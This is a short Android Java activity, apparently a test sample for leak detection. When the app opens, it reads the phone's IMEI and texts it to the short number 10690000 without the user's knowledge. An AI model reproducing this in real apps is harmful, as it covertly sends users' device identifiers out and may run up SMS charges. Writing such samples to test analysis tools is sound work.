package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String text = phone.getImei();
        if (state != null) {
            text = "again";
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
    }
}
